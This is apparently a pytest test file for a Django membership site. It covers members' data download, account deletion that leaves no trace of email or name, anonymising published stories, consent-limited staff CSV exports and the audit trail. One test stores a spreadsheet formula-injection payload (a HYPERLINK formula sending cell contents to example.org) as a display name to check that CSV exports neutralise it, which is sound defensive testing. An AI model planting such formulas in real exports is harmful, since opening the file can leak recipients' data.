"""Their data, their choice: a complete download, and a deletion that leaves no trace."""

import json
from datetime import date, timedelta

import pytest
from django.apps import apps
from django.contrib.contenttypes.models import ContentType
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import reverse
from django.utils import timezone
from wagtail.images import get_image_model
from wagtail.models import ModelLogEntry

from home.models import Skill
from members.models import (
    Block,
    Invitation,
    LoginRecord,
    MentoringMeeting,
    Mentorship,
    Message,
    Report,
)
from members.services import conversations
from members.services.mentoring import pairs as mentoring
from stories.models import StoryPage
from tests.members.factories import (
    PASSWORD,
    mentoring_pair,
    offer_mentoring,
    submit_member_story,
    wish_for_mentor,
)
from tests.members.test_photos import jpeg_with_gps

# Emails are queued after commit; these tests read them as delivered (tests/conftest.py).
pytestmark = pytest.mark.usefixtures("deliver_emails")


def test_download_contains_everything_held(client, approved_member, another_member):
    profile = approved_member.profile
    profile.skills.add(Skill.objects.create(name="Campaigning", slug="campaigning"))
    conversations.start_or_send(approved_member, another_member, "Hello from me")
    Block.objects.create(blocker=approved_member, blocked=another_member)
    Report.objects.create(reporter=approved_member, profile=another_member.profile, reason="Spam")
    client.post(reverse("account_login"), {"login": approved_member.email, "password": PASSWORD})
    response = client.post(reverse("members:export_data"))
    assert response["Content-Disposition"] == 'attachment; filename="my-data.json"'
    data = json.loads(response.content)
    assert data["account"]["email"] == approved_member.email
    assert data["profile"]["display_name"] == "Approved Viewer"
    assert data["profile"]["skills"] == ["Campaigning"]
    assert data["consents"]["privacy_notice_version"] == "2025-01"
    assert data["conversations"][0]["my_messages"][0]["body"] == "Hello from me"
    assert data["conversations"][0]["with"] == "Another Member"
    assert data["blocked_members"] == ["Another Member"]
    assert data["reports_made"][0]["reason"] == "Spam"
    assert len(data["login_history"]) == 1
    assert data["stories"] == [] and data["event_replies"] == []
    assert data["mentoring"] == {"offer": None, "wish": None, "pairs": []}
    assert ModelLogEntry.objects.filter(action="members.exported", user=approved_member).exists()


def all_text_in_database():
    """Every text value of every model in the database, for the no-trace check."""
    for model in apps.get_models():
        text_fields = [
            field.name
            for field in model._meta.concrete_fields
            if isinstance(field, (models.CharField, models.TextField, models.JSONField))
        ]
        if not text_fields:
            continue
        for row in model.objects.values_list(*text_fields):
            for value in row:
                if value:
                    yield model, str(value)


def test_deletion_needs_the_password(client, approved_member):
    client.force_login(approved_member)
    response = client.post(reverse("members:delete_account"), {"password": "wrong"})
    assert "not correct" in response.text
    assert type(approved_member).objects.filter(pk=approved_member.pk).exists()


def test_deletion_leaves_no_trace_of_email_or_name(
    client,
    approved_member,
    another_member,
    staff,
    story_index,
    committed,
    django_capture_on_commit_callbacks,
):
    email, name = approved_member.email, "Approved Viewer"
    legal_name = approved_member.first_name
    # What these queue (emails to staff and mentors) is sent, as it would be by now.
    with django_capture_on_commit_callbacks(execute=True):
        photo = SimpleUploadedFile("me.jpg", jpeg_with_gps(), content_type="image/jpeg")
        published = submit_member_story(
            approved_member,
            title="What the programme gave me",
            consent="name-and-photo",
            photo=photo,
            photo_alt="Me at the town hall",
            photo_shows_me=True,
        )
        published.get_latest_revision().publish()
        draft = submit_member_story(approved_member, title="Not ready yet")
        published.refresh_from_db()
        assert published.live and published.author_name == name
        # Mentoring: an offer and a wish, a pair with notes naming them, a request to them.
        offer_mentoring(approved_member, note=f"{name} offers evenings")
        wish_for_mentor(approved_member, message=f"{name} wants to learn campaigning")
        pair = mentoring_pair(another_member, approved_member, message=f"I am {name}")
        mentoring.log_meeting(pair, another_member, date(2025, 3, 1), f"Coffee with {name}")
        mentoring_pair(approved_member, staff, status="requested", message=f"Dear {name}")
    mail.outbox.clear()
    committed(conversations.start_or_send, approved_member, another_member, f"Hi, I am {name}")
    committed(conversations.start_or_send, another_member, approved_member, "Hello to you")
    Report.objects.create(reporter=another_member, profile=approved_member.profile, reason=name)
    Invitation.objects.create(email=email, token_hash="x" * 64, expires_at="2030-01-01T00:00Z")
    client.post(reverse("account_login"), {"login": email, "password": PASSWORD})
    assert LoginRecord.objects.filter(user=approved_member).exists()
    client.post(reverse("members:delete_account"), {"password": PASSWORD})
    assert not type(approved_member).objects.filter(pk=approved_member.pk).exists()
    for model, value in all_text_in_database():
        assert email not in value, model
        assert name not in value, model
        assert legal_name not in value, model
    # Their words are gone; the other person's reply stays theirs to read.
    assert list(Message.objects.values_list("body", flat=True)) == ["Hello to you"]
    # The confirmed pair stays, anonymised, so its meeting stays counted (issue 20);
    # the request to staff, never confirmed, is gone.
    assert Mentorship.objects.get().mentee is None
    assert MentoringMeeting.objects.get().note == ""
    assert ModelLogEntry.objects.filter(
        action="members.deleted",
        object_id=str(approved_member.pk),
        data={"members": [approved_member.pk]},
    ).exists()
    # The two messages, then the partner told that the pair ended (issue 15 §7).
    assert [message.subject for message in mail.outbox][2:] == ["Your mentoring pair has ended"]
    assert len(mail.outbox) == 3

    # The published story stays, under "a former member" and without their photo.
    assert not StoryPage.objects.filter(pk=draft.pk).exists()
    published.refresh_from_db()
    assert published.live
    assert published.submitted_by is None
    assert published.author_name == "A former member"
    assert published.consent_scope == "anonymous"
    assert published.lead_image is None
    assert not get_image_model().objects.exists()
    page = client.get(published.url)
    assert page.status_code == 200
    assert "A former member" in page.text
    assert name not in page.text


def test_staff_csv_export_includes_only_consenting_members(client, staff, viewers):
    viewers["approved"].profile.staff_export_consent = True
    viewers["approved"].profile.save()
    client.force_login(staff)
    csv_text = client.get(reverse("members_admin:export_csv")).content.decode()
    assert viewers["approved"].email in csv_text
    assert viewers["another"].email not in csv_text
    assert viewers["pending"].email not in csv_text
    assert ModelLogEntry.objects.filter(action="members.staff_export", user=staff).exists()


def test_audit_trail_keeps_numbers_and_names_members_to_staff(client, staff, pending_member):
    pending_member.profile.display_name = "Pending Person"
    pending_member.profile.save()
    client.force_login(staff)
    client.post(
        reverse("members_admin:decide", args=[pending_member.profile.pk]),
        {"decision": "approve"},
    )
    entry = ModelLogEntry.objects.get(action="members.approved")
    assert entry.data == {"members": [pending_member.pk]} and entry.user == staff
    assert "Pending Person" not in entry.label and pending_member.email not in entry.label
    response = client.get(reverse("members_admin:audit"))
    assert "no-store" in response["Cache-Control"]
    assert "Membership approved" in response.text
    assert "Pending Person" in response.text  # named when staff read it
    assert staff.get_full_name() in response.text
    assert pending_member.email not in response.text


def test_the_audit_trail_pages_back_to_its_oldest_entries(client, staff):
    user_type = ContentType.objects.get_for_model(type(staff))
    ModelLogEntry.objects.bulk_create(
        [
            ModelLogEntry(
                content_type=user_type,
                object_id=str(90000 + number),
                label=f"#{90000 + number}",
                action="members.exported",
                data={"members": [90000 + number]},
                timestamp=timezone.now() - timedelta(minutes=200 - number),
            )
            for number in range(1, 106)
        ]
    )
    client.force_login(staff)
    first = client.get(reverse("members_admin:audit")).text
    assert "Page 1 of 2" in first and "?p=2" in first
    assert "#90105" in first and "#90005" not in first  # newest first, 100 to a page
    second = client.get(reverse("members_admin:audit"), {"p": 2}).text
    assert "#90005" in second and "#90001" in second and "#90105" not in second


def test_the_audit_trail_filters_by_action_and_exports_without_formulas(
    client, staff, approved_member
):
    approved_member.profile.display_name = '=HYPERLINK("https://example.org/?"&A1,"Click")'
    approved_member.profile.save()
    client.force_login(approved_member)
    client.post(reverse("members:export_data"))
    client.force_login(staff)
    client.get(reverse("members_admin:export_csv"))
    filtered = client.get(reverse("members_admin:audit"), {"action": "members.staff_export"})
    assert "Staff downloaded the member list" in filtered.text
    assert filtered.text.count("Member downloaded their data") == 1  # the filter option only
    export = client.get(reverse("members_admin:audit"), {"export": "csv"})
    assert export.status_code == 200
    csv_text = b"".join(export.streaming_content).decode()
    assert "'=HYPERLINK" in csv_text
    assert "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text
    bad = client.get(reverse("members_admin:audit"), {"action": "nonsense", "timestamp_after": "x"})
    assert bad.status_code == 200
